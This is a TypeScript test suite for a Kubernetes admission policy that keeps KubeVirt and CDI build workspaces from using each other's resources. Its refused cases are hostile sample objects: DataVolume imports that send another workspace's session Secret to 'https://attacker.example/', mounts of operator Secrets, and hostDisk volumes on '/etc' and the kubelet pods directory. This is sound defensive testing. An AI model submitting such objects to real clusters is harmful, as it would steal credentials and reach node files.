import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import { parseAllDocuments } from "yaml";
import { admissionPolicyFile, admissionPolicyNames } from "../../../app/admission-policy";
import {
  BUILD_NAMESPACE_PREFIX,
  TEMPLATE_NAMESPACE_LABEL,
  VM_LABEL_KEY,
} from "../../../templates/packer-builder";
import { celPolicy, decide, type Verdict } from "./admission-evaluator";

// The build namespaces' admission policy (issue 33 item 3, issue 43 item 3), tested offline
// with a real CEL evaluator (@bufbuild/cel): the generated YAML is parsed and its own CEL
// expressions (match condition, variables in order, validations and their messages) are
// evaluated as the API server evaluates a ValidatingAdmissionPolicy, against hostile and
// ordinary KubeVirt and CDI objects, in the shared namespace and in a workspace's own.
// Each case is named; each refused case names what refuses it.

const ME_ID = "0f4a2c1e-7b3d-4e5f-9a8b-1c2d3e4f5a6b";
const ME = `coder-${ME_ID}`;
const OTHER = "coder-9d8c7b6a-5f4e-4d3c-8b2a-1f0e9d8c7b6a";
const NS = "packer-dev";
/** The workspace's own namespace in the per-workspace mode. */
const OWN_NS = `${BUILD_NAMESPACE_PREFIX}${ME_ID}`;
const sa = (name: string, namespace = NS) => `system:serviceaccount:${namespace}:${name}`;

type Obj = Record<string, any>;

const [policyDoc, ...bindingDocs] = parseAllDocuments(admissionPolicyFile()).map((d) => d.toJS());
const POLICY = celPolicy(policyDoc);

const KINDS: Record<string, { group: string; version: string; resource: string }> = {
  VirtualMachine: { group: "kubevirt.io", version: "v1", resource: "virtualmachines" },
  VirtualMachineInstance: {
    group: "kubevirt.io",
    version: "v1",
    resource: "virtualmachineinstances",
  },
  VirtualMachineInstanceReplicaSet: {
    group: "kubevirt.io",
    version: "v1",
    resource: "virtualmachineinstancereplicasets",
  },
  VirtualMachinePool: { group: "pool.kubevirt.io", version: "v1", resource: "virtualmachinepools" },
  DataVolume: { group: "cdi.kubevirt.io", version: "v1beta1", resource: "datavolumes" },
};

interface Request {
  readonly kind: keyof typeof KINDS;
  readonly operation: "CREATE" | "UPDATE" | "DELETE";
  readonly username: string;
  readonly object: Obj | null;
  readonly oldObject?: Obj | null;
  /** @default the shared namespace */
  readonly namespace?: string;
}

/** What the API server decides for `request` under the generated policy. */
function admit(request: Request): Verdict {
  const { group, version, resource } = KINDS[request.kind];
  return decide(POLICY, {
    request: {
      kind: { group, version, kind: request.kind },
      resource: { group, version, resource },
      subResource: "",
      operation: request.operation,
      namespace: request.namespace ?? NS,
      userInfo: { username: request.username, groups: ["system:serviceaccounts"] },
    },
    object: request.object,
    oldObject: request.oldObject ?? null,
  });
}

// --- Objects ------------------------------------------------------------------------------
const labels = (owner: string | null) => (owner === null ? {} : { [VM_LABEL_KEY]: owner });
const vmi = (volumes: Obj[] = [], extra: Obj = {}): Obj => ({
  domain: { devices: { disks: volumes.map((v) => ({ name: v.name, disk: { bus: "virtio" } })) } },
  volumes,
  ...extra,
});
const vm = (
  spec: Obj,
  owner: string | null = ME,
  vmExtra: Obj = {},
  templateOwner: string | null = owner,
): Obj => ({
  apiVersion: "kubevirt.io/v1",
  kind: "VirtualMachine",
  metadata: { name: "packer-1a2b3c", namespace: NS, labels: labels(owner) },
  spec: {
    runStrategy: "Always",
    template: { metadata: { labels: labels(templateOwner) }, spec },
    ...vmExtra,
  },
});
/** A standalone CDI DataVolume importing over http, with `http` fields added. */
const dataVolume = (http: Obj, owner: string | null = ME): Obj => ({
  apiVersion: "cdi.kubevirt.io/v1beta1",
  kind: "DataVolume",
  metadata: { name: "packer-iso-1a2b3c", labels: labels(owner) },
  spec: {
    source: { http: { url: "https://releases.example.com/a.iso", ...http } },
    storage: { resources: { requests: { storage: "10Gi" } } },
  },
});
const withNetworks = (networkName: string): Obj =>
  vmi(ordinaryVolumes, {
    networks: [
      { name: "default", pod: {} },
      { name: "build", multus: { networkName } },
    ],
  });
const kernelBoot = (container: Obj): Obj =>
  vmi(ordinaryVolumes, {
    domain: {
      devices: {},
      firmware: { kernelBoot: { kernelArgs: "console=ttyS0", container } },
    },
  });
const ordinaryVolumes = [
  { name: "rootdisk", persistentVolumeClaim: { claimName: "packer-1a2b3c-rootdisk" } },
  { name: "cloudinit", cloudInitNoCloud: { userData: "#cloud-config\npassword: packer\n" } },
];
const create = (kind: Request["kind"], object: Obj, username = sa(ME)): Request => ({
  kind,
  operation: "CREATE",
  username,
  object,
});

const ALLOWED: [string, Request][] = [
  [
    "an ordinary build VM: own label, PVC disk, inline cloud-init",
    create("VirtualMachine", vm(vmi(ordinaryVolumes))),
  ],
  [
    "a VM whose cloud-init and SSH key come from Secrets named after the identity",
    create(
      "VirtualMachine",
      vm(
        vmi(
          [
            ...ordinaryVolumes.slice(0, 1),
            {
              name: "cloudinit",
              cloudInitNoCloud: {
                secretRef: { name: `${ME}-cloudinit` },
                networkDataSecretRef: { name: ME },
              },
            },
            { name: "extra", secret: { secretName: `${ME}-answers` } },
          ],
          {
            accessCredentials: [
              {
                sshPublicKey: {
                  source: { secret: { secretName: `${ME}-ssh` } },
                  propagationMethod: { noCloud: {} },
                },
              },
            ],
          },
        ),
      ),
    ),
  ],
  [
    "a VM importing its disk over http with its own credentials Secret",
    create(
      "VirtualMachine",
      vm(vmi(ordinaryVolumes), ME, {
        dataVolumeTemplates: [
          {
            metadata: { name: "iso" },
            spec: {
              source: { http: { url: "https://example.com/a.iso", secretRef: `${ME}-http` } },
            },
          },
        ],
      }),
    ),
  ],
  [
    "a VMI with a container disk and no pull secret",
    create("VirtualMachineInstance", {
      metadata: { labels: labels(ME) },
      spec: vmi([{ name: "cd", containerDisk: { image: "quay.io/x/y:1" } }]),
    }),
  ],
  [
    "a pool of own VMs, its VM template and that template's VMI template labeled too",
    create("VirtualMachinePool", {
      metadata: { labels: labels(ME) },
      spec: {
        replicas: 1,
        virtualMachineTemplate: {
          metadata: { labels: labels(ME) },
          spec: { template: { metadata: { labels: labels(ME) }, spec: vmi(ordinaryVolumes) } },
        },
      },
    }),
  ],
  [
    "a replica set of own VMIs",
    create("VirtualMachineInstanceReplicaSet", {
      metadata: { labels: labels(ME) },
      spec: {
        replicas: 1,
        template: { metadata: { labels: labels(ME) }, spec: vmi(ordinaryVolumes) },
      },
    }),
  ],
  [
    "an update of its own VM",
    {
      kind: "VirtualMachine",
      operation: "UPDATE",
      username: sa(ME),
      object: vm(vmi(ordinaryVolumes)),
      oldObject: vm(vmi(ordinaryVolumes)),
    },
  ],
  [
    "a VM with a configMap volume of its own (issue 43 item 3)",
    create(
      "VirtualMachine",
      vm(vmi([...ordinaryVolumes, { name: "files", configMap: { name: `${ME}-answers` } }])),
    ),
  ],
  [
    "a kernel boot container pulled with its own pull secret (issue 43 item 3)",
    create(
      "VirtualMachine",
      vm(kernelBoot({ image: "r/kernel:1", imagePullSecret: `${ME}-pull` })),
    ),
  ],
  [
    "a kernel boot container without a pull secret (issue 43 item 3)",
    create("VirtualMachine", vm(kernelBoot({ image: "r/kernel:1" }))),
  ],
  [
    "a VM on a Multus network of its own namespace, by name alone (issue 43 item 3)",
    create("VirtualMachine", vm(withNetworks("build-vlan"))),
  ],
  [
    "a VM on a Multus network of its own namespace, by namespace/name (issue 43 item 3)",
    create("VirtualMachine", vm(withNetworks(`${NS}/build-vlan`))),
  ],
  [
    "a VM on a Multus network of harvester-public, where the operators offer them (issue 43 item 3)",
    create("VirtualMachine", vm(withNetworks("harvester-public/vlan-100"))),
  ],
  [
    "a DataVolume importing with its own credentials and header Secrets (issue 43 item 3)",
    create(
      "DataVolume",
      dataVolume({ secretRef: `${ME}-http`, secretExtraHeaders: [`${ME}-token-header`] }),
    ),
  ],
  [
    "an unlabeled DataVolume the build tools make, naming no Secret (issue 43 item 3)",
    create("DataVolume", dataVolume({}, null)),
  ],
  [
    "a delete of an unlabeled DataVolume (nobody's: docs/templates/packer-builder.md)",
    {
      kind: "DataVolume",
      operation: "DELETE",
      username: sa(ME),
      object: null,
      oldObject: dataVolume({}, null),
    },
  ],
  [
    "in its own namespace (per-workspace mode): an ordinary build VM (issue 43 item 3)",
    {
      ...create("VirtualMachine", vm(vmi(ordinaryVolumes)), sa(ME, OWN_NS)),
      namespace: OWN_NS,
    },
  ],
  [
    "in its own namespace: a VM with its own cloud-init Secret (issue 43 item 3)",
    {
      ...create(
        "VirtualMachine",
        vm(vmi([{ name: "c", cloudInitNoCloud: { secretRef: { name: `${ME}-cloudinit` } } }])),
        sa(ME, OWN_NS),
      ),
      namespace: OWN_NS,
    },
  ],
  [
    "a delete of its own VM",
    {
      kind: "VirtualMachine",
      operation: "DELETE",
      username: sa(ME),
      object: null,
      oldObject: vm(vmi(ordinaryVolumes)),
    },
  ],
];

const NOT_MATCHED: [string, Request][] = [
  [
    "KubeVirt's controller creating a VMI (it is not a workspace identity)",
    create(
      "VirtualMachineInstance",
      { spec: vmi([{ name: "sa", serviceAccount: { serviceAccountName: OTHER } }]) },
      sa("kubevirt-controller", "harvester-system"),
    ),
  ],
  [
    "CDI's controller creating a DataVolume from a VM's template",
    create(
      "DataVolume",
      dataVolume({ secretRef: "anything" }, null),
      sa("cdi-sa", "harvester-system"),
    ),
  ],
  [
    "an administrator",
    create(
      "VirtualMachine",
      vm(vmi([{ name: "s", secret: { secretName: "anything" } }]), null),
      "admin",
    ),
  ],
  [
    "another service account of the namespace that is not a workspace identity",
    create("VirtualMachine", vm(vmi([]), null), sa("image-uploader")),
  ],
];

const SECRET_REFUSAL = "may only name Secrets called";
const REFUSED: [string, Request, string][] = [
  [
    "a serviceAccount volume naming another workspace's account",
    create(
      "VirtualMachine",
      vm(vmi([...ordinaryVolumes, { name: "sa", serviceAccount: { serviceAccountName: OTHER } }])),
    ),
    "serviceAccount volume",
  ],
  [
    "a serviceAccount volume naming its own account",
    create("VirtualMachine", vm(vmi([{ name: "sa", serviceAccount: { serviceAccountName: ME } }]))),
    "serviceAccount volume",
  ],
  [
    "a secret volume of another workspace's session Secret",
    create("VirtualMachine", vm(vmi([{ name: "s", secret: { secretName: `${OTHER}-session` } }]))),
    SECRET_REFUSAL,
  ],
  [
    "a secret volume whose name only starts like the identity's (no dash)",
    create("VirtualMachine", vm(vmi([{ name: "s", secret: { secretName: `${ME}x` } }]))),
    SECRET_REFUSAL,
  ],
  [
    "a secret volume of an operator's Secret",
    create(
      "VirtualMachine",
      vm(vmi([{ name: "s", secret: { secretName: "harvester-admin-kubeconfig" } }])),
    ),
    SECRET_REFUSAL,
  ],
  [
    "cloudInitNoCloud.secretRef naming another's Secret",
    create(
      "VirtualMachine",
      vm(vmi([{ name: "c", cloudInitNoCloud: { secretRef: { name: `${OTHER}-cloudinit` } } }])),
    ),
    SECRET_REFUSAL,
  ],
  [
    "cloudInitNoCloud.networkDataSecretRef naming another's Secret",
    create(
      "VirtualMachine",
      vm(
        vmi([
          {
            name: "c",
            cloudInitNoCloud: { userData: "x", networkDataSecretRef: { name: "shared-network" } },
          },
        ]),
      ),
    ),
    SECRET_REFUSAL,
  ],
  [
    "cloudInitConfigDrive.secretRef naming another's Secret",
    create(
      "VirtualMachine",
      vm(vmi([{ name: "c", cloudInitConfigDrive: { secretRef: { name: OTHER } } }])),
    ),
    SECRET_REFUSAL,
  ],
  [
    "a cloud-init vendorDataSecretRef naming another's Secret (a proposed KubeVirt field)",
    create(
      "VirtualMachine",
      vm(
        vmi([
          { name: "c", cloudInitNoCloud: { userData: "x", vendorDataSecretRef: { name: OTHER } } },
        ]),
      ),
    ),
    SECRET_REFUSAL,
  ],
  [
    "a sysprep Secret of someone else",
    create(
      "VirtualMachine",
      vm(vmi([{ name: "w", sysprep: { secret: { name: "windows-answers" } } }])),
    ),
    SECRET_REFUSAL,
  ],
  [
    "a container disk pulled with the namespace's pull secret",
    create("VirtualMachineInstance", {
      metadata: { labels: labels(ME) },
      spec: vmi([
        { name: "cd", containerDisk: { image: "r/x:1", imagePullSecret: "registry-credentials" } },
      ]),
    }),
    SECRET_REFUSAL,
  ],
  [
    "accessCredentials.sshPublicKey from another's Secret",
    create(
      "VirtualMachine",
      vm(
        vmi(ordinaryVolumes, {
          accessCredentials: [
            { sshPublicKey: { source: { secret: { secretName: `${OTHER}-ssh` } } } },
          ],
        }),
      ),
    ),
    "accessCredentials may only name Secrets",
  ],
  [
    "accessCredentials.userPassword from another's Secret",
    create(
      "VirtualMachine",
      vm(
        vmi(ordinaryVolumes, {
          accessCredentials: [
            { userPassword: { source: { secret: { secretName: "root-passwords" } } } },
          ],
        }),
      ),
    ),
    "accessCredentials may only name Secrets",
  ],
  [
    "a DataVolume template importing with another's credentials (sent to any URL)",
    create(
      "VirtualMachine",
      vm(vmi(ordinaryVolumes), ME, {
        dataVolumeTemplates: [
          {
            spec: {
              source: { http: { url: "https://attacker.example/", secretRef: `${OTHER}-session` } },
            },
          },
        ],
      }),
    ),
    "import source",
  ],
  [
    "a pool whose VM template mounts another's Secret",
    create("VirtualMachinePool", {
      metadata: { labels: labels(ME) },
      spec: {
        virtualMachineTemplate: {
          metadata: { labels: labels(ME) },
          spec: {
            template: { spec: vmi([{ name: "s", secret: { secretName: `${OTHER}-session` } }]) },
          },
        },
      },
    }),
    SECRET_REFUSAL,
  ],
  [
    "a replica set with a serviceAccount volume",
    create("VirtualMachineInstanceReplicaSet", {
      metadata: { labels: labels(ME) },
      spec: {
        template: { spec: vmi([{ name: "sa", serviceAccount: { serviceAccountName: OTHER } }]) },
      },
    }),
    "serviceAccount volume",
  ],
  [
    "a VM without the workspace label",
    create("VirtualMachine", vm(vmi(ordinaryVolumes), null)),
    "label it app.coder.io/workspace",
  ],
  [
    "a VM labeled as another workspace's",
    create("VirtualMachine", vm(vmi(ordinaryVolumes), OTHER)),
    "label it app.coder.io/workspace",
  ],
  [
    "relabeling its own VM as another workspace's",
    {
      kind: "VirtualMachine",
      operation: "UPDATE",
      username: sa(ME),
      object: vm(vmi(ordinaryVolumes), OTHER),
      oldObject: vm(vmi(ordinaryVolumes)),
    },
    "label it app.coder.io/workspace",
  ],
  [
    "an update of another workspace's VM",
    {
      kind: "VirtualMachine",
      operation: "UPDATE",
      username: sa(ME),
      object: vm(vmi(ordinaryVolumes)),
      oldObject: vm(vmi(ordinaryVolumes), OTHER),
    },
    "may update or delete only its own",
  ],
  [
    "a delete of another workspace's VM",
    {
      kind: "VirtualMachine",
      operation: "DELETE",
      username: sa(ME),
      object: null,
      oldObject: vm(vmi(ordinaryVolumes), OTHER),
    },
    "may update or delete only its own",
  ],
  [
    "a delete of an unlabeled VM",
    {
      kind: "VirtualMachine",
      operation: "DELETE",
      username: sa(ME),
      object: null,
      oldObject: vm(vmi(ordinaryVolumes), null),
    },
    "may update or delete only its own",
  ],
  [
    "a delete of another workspace's pool",
    {
      kind: "VirtualMachinePool",
      operation: "DELETE",
      username: sa(ME),
      object: null,
      oldObject: { metadata: { labels: labels(OTHER) }, spec: {} },
    },
    "may update or delete only its own",
  ],
  // Issue 43 item 3: the paths the first policy left open.
  [
    "a standalone DataVolume whose http secretExtraHeaders name another's Secret",
    create("DataVolume", dataVolume({ secretExtraHeaders: [`${OTHER}-session`] })),
    "import source (secretRef, http secretExtraHeaders)",
  ],
  [
    "a standalone DataVolume whose secretExtraHeaders mix its own and an operator's Secret",
    create(
      "DataVolume",
      dataVolume({ secretExtraHeaders: [`${ME}-header`, "harvester-admin-token"] }),
    ),
    "import source (secretRef, http secretExtraHeaders)",
  ],
  [
    "a VM's DataVolume template whose http secretExtraHeaders name another's Secret",
    create(
      "VirtualMachine",
      vm(vmi(ordinaryVolumes), ME, {
        dataVolumeTemplates: [
          {
            spec: {
              source: {
                http: { url: "https://attacker.example/", secretExtraHeaders: [OTHER] },
              },
            },
          },
        ],
      }),
    ),
    "import source (secretRef, http secretExtraHeaders)",
  ],
  [
    "a standalone DataVolume (another workload than a VM) importing with another's http secretRef",
    create("DataVolume", dataVolume({ secretRef: `${OTHER}-session` })),
    "import source",
  ],
  [
    "an unlabeled standalone DataVolume pulling from a registry with the namespace's pull secret",
    create("DataVolume", {
      metadata: { name: "x" },
      spec: { source: { registry: { url: "docker://r/x:1", secretRef: "registry-credentials" } } },
    }),
    "import source",
  ],
  [
    "a DataVolume labeled as another workspace's",
    create("DataVolume", dataVolume({}, OTHER)),
    "label it app.coder.io/workspace",
  ],
  [
    "a delete of another workspace's DataVolume",
    {
      kind: "DataVolume",
      operation: "DELETE",
      username: sa(ME),
      object: null,
      oldObject: dataVolume({}, OTHER),
    },
    "may update or delete only its own",
  ],
  [
    "a kernel boot container pulled with the namespace's pull secret",
    create(
      "VirtualMachine",
      vm(kernelBoot({ image: "r/kernel:1", imagePullSecret: "registry-credentials" })),
    ),
    "kernelBoot container's imagePullSecret",
  ],
  [
    "a kernel boot container of a VMI pulled with another workspace's Secret",
    create("VirtualMachineInstance", {
      metadata: { labels: labels(ME) },
      spec: kernelBoot({ image: "r/kernel:1", imagePullSecret: `${OTHER}-pull` }),
    }),
    "kernelBoot container's imagePullSecret",
  ],
  [
    "a configMap volume of another workspace",
    create(
      "VirtualMachine",
      vm(vmi([...ordinaryVolumes, { name: "f", configMap: { name: `${OTHER}-answers` } }])),
    ),
    "may only name ConfigMaps called",
  ],
  [
    "a configMap volume of an operator's ConfigMap",
    create("VirtualMachine", vm(vmi([{ name: "f", configMap: { name: "kube-root-ca.crt" } }]))),
    "may only name ConfigMaps called",
  ],
  [
    "a sysprep answer file from another's ConfigMap",
    create(
      "VirtualMachine",
      vm(vmi([{ name: "w", sysprep: { configMap: { name: `${OTHER}-sysprep` } } }])),
    ),
    "may only name ConfigMaps called",
  ],
  [
    "a hostDisk volume (a directory of the node)",
    create(
      "VirtualMachine",
      vm(
        vmi([
          ...ordinaryVolumes,
          { name: "h", hostDisk: { path: "/var/lib/kubelet/pods", type: "Disk" } },
        ]),
      ),
    ),
    "hostDisk volume",
  ],
  [
    "a hostDisk volume in a pool's VM template",
    create("VirtualMachinePool", {
      metadata: { labels: labels(ME) },
      spec: {
        virtualMachineTemplate: {
          metadata: { labels: labels(ME) },
          spec: {
            template: {
              metadata: { labels: labels(ME) },
              spec: vmi([{ name: "h", hostDisk: { path: "/etc", type: "DiskOrCreate" } }]),
            },
          },
        },
      },
    }),
    "hostDisk volume",
  ],
  [
    "a Multus network of another namespace",
    create("VirtualMachine", vm(withNetworks("harvester-system/mgmt"))),
    "Multus networks of its own namespace or of harvester-public",
  ],
  [
    "a Multus network of a namespace whose name only starts like an offered one",
    create("VirtualMachine", vm(withNetworks("harvester-public-admin/vlan"))),
    "Multus networks",
  ],
  [
    "in its own namespace: a Multus network of the shared namespace",
    {
      ...create("VirtualMachine", vm(withNetworks(`${NS}/build-vlan`)), sa(ME, OWN_NS)),
      namespace: OWN_NS,
    },
    "Multus networks",
  ],
  [
    "a VM whose VMI template lacks the workspace label",
    create("VirtualMachine", vm(vmi(ordinaryVolumes), ME, {}, null)),
    "label its templates too",
  ],
  [
    "a VM whose VMI template is labeled as another workspace's",
    create("VirtualMachine", vm(vmi(ordinaryVolumes), ME, {}, OTHER)),
    "label its templates too",
  ],
  [
    "an update that relabels its VM's template as another workspace's",
    {
      kind: "VirtualMachine",
      operation: "UPDATE",
      username: sa(ME),
      object: vm(vmi(ordinaryVolumes), ME, {}, OTHER),
      oldObject: vm(vmi(ordinaryVolumes)),
    },
    "label its templates too",
  ],
  [
    "a replica set whose VMI template lacks the workspace label",
    create("VirtualMachineInstanceReplicaSet", {
      metadata: { labels: labels(ME) },
      spec: { template: { spec: vmi(ordinaryVolumes) } },
    }),
    "label its templates too",
  ],
  [
    "a pool whose VMI template (inside its VM template) is labeled as another's",
    create("VirtualMachinePool", {
      metadata: { labels: labels(ME) },
      spec: {
        virtualMachineTemplate: {
          metadata: { labels: labels(ME) },
          spec: { template: { metadata: { labels: labels(OTHER) }, spec: vmi(ordinaryVolumes) } },
        },
      },
    }),
    "label its templates too",
  ],
  [
    "in its own namespace: a secret volume of a Secret not its own",
    {
      ...create(
        "VirtualMachine",
        vm(vmi([{ name: "s", secret: { secretName: "harvester-admin-kubeconfig" } }])),
        sa(ME, OWN_NS),
      ),
      namespace: OWN_NS,
    },
    SECRET_REFUSAL,
  ],
  [
    "in its own namespace: a serviceAccount volume",
    {
      ...create(
        "VirtualMachine",
        vm(vmi([{ name: "sa", serviceAccount: { serviceAccountName: "default" } }])),
        sa(ME, OWN_NS),
      ),
      namespace: OWN_NS,
    },
    "serviceAccount volume",
  ],
];

describe("the build namespaces' admission policy, evaluated with @bufbuild/cel", () => {
  it.each(ALLOWED)("allows %s", (_name, request) => {
    expect(admit(request)).toEqual({ matched: true, refusals: [] });
  });

  it.each(NOT_MATCHED)("does not constrain %s", (_name, request) => {
    expect(admit(request)).toEqual({ matched: false });
  });

  it.each(REFUSED)("refuses %s", (_name, request, because) => {
    const verdict = admit(request);
    expect(verdict.matched).toBe(true);
    const refusals = verdict.matched ? verdict.refusals : [];
    expect(refusals.length).toBeGreaterThan(0);
    expect(refusals.join("\n")).toContain(because);
  });

  it("names the requester in its messages", () => {
    const verdict = admit(REFUSED[2][1]);
    expect(verdict.matched && verdict.refusals[0]).toContain(sa(ME));
  });

  it("binds the policy to the shared namespace and to every namespace the template labels, denying on failure (issue 43 item 3)", () => {
    expect(policyDoc.spec.failurePolicy).toBe("Fail");
    expect(bindingDocs.map((b) => b.spec)).toEqual([
      {
        policyName: policyDoc.metadata.name,
        validationActions: ["Deny"],
        matchResources: {
          namespaceSelector: { matchLabels: { "kubernetes.io/metadata.name": NS } },
        },
      },
      {
        policyName: policyDoc.metadata.name,
        validationActions: ["Deny"],
        matchResources: {
          namespaceSelector: {
            matchLabels: { [TEMPLATE_NAMESPACE_LABEL.key]: TEMPLATE_NAMESPACE_LABEL.value },
          },
        },
      },
    ]);
    const rules = policyDoc.spec.matchConstraints.resourceRules;
    expect(rules.flatMap((r: Obj) => r.resources).sort()).toEqual(
      Object.values(KINDS)
        .map((k) => k.resource)
        .sort(),
    );
    for (const rule of rules) expect(rule.operations).toEqual(["CREATE", "UPDATE", "DELETE"]);
  });

  it("does not constrain a workspace identity acting in another namespace than its own", () => {
    // Its RBAC holds nowhere else; its names would never be "its own" there anyway.
    const request = create("VirtualMachine", vm(vmi([])), sa(ME, OWN_NS));
    expect(admit(request)).toEqual({ matched: false });
  });

  it("takes the namespaces whose Multus networks are offered from the command", () => {
    const [policy] = parseAllDocuments(
      admissionPolicyFile({ networkNamespaces: ["build-networks"] }),
    ).map((d) => d.toJS());
    const verdict = (networkName: string) =>
      decide(celPolicy(policy), {
        request: {
          kind: { group: "kubevirt.io", version: "v1", kind: "VirtualMachine" },
          resource: { group: "kubevirt.io", version: "v1", resource: "virtualmachines" },
          subResource: "",
          operation: "CREATE",
          namespace: NS,
          userInfo: { username: sa(ME), groups: [] },
        },
        object: vm(withNetworks(networkName)),
        oldObject: null,
      });
    expect(verdict("build-networks/vlan")).toEqual({ matched: true, refusals: [] });
    expect(verdict("harvester-public/vlan")).toEqual({
      matched: true,
      refusals: ["a VM may only join Multus networks of its own namespace or of build-networks"],
    });
    expect(() => admissionPolicyFile({ networkNamespaces: ["Bad Name"] })).toThrow(
      '--network-namespace "Bad Name": must be a namespace name (DNS-1123 label)',
    );
  });

  it("is generated from the operator's identity namespace", () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "policy-config-"));
    try {
      const file = path.join(dir, "deploy.jsonc");
      fs.writeFileSync(
        file,
        '{ "templates": { "packer-builder": { "settings": { "identityNamespace": "builds" } } } }',
      );
      expect(admissionPolicyNames(file)).toEqual({
        namespace: "builds",
        identityPrefix: "coder-",
        labelKey: VM_LABEL_KEY,
        namespaceLabel: TEMPLATE_NAMESPACE_LABEL,
        networkNamespaces: ["harvester-public"],
      });
      const [policy, binding] = parseAllDocuments(admissionPolicyFile(file)).map((d) => d.toJS());
      expect(policy.metadata.name).toBe("packer-builder-own-objects-builds");
      expect(policy.spec.matchConditions[0].expression).toBe(
        "request.userInfo.username.startsWith('system:serviceaccount:' + request.namespace + ':' + 'coder-')",
      );
      expect(binding.spec.matchResources.namespaceSelector.matchLabels).toEqual({
        "kubernetes.io/metadata.name": "builds",
      });
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });
});
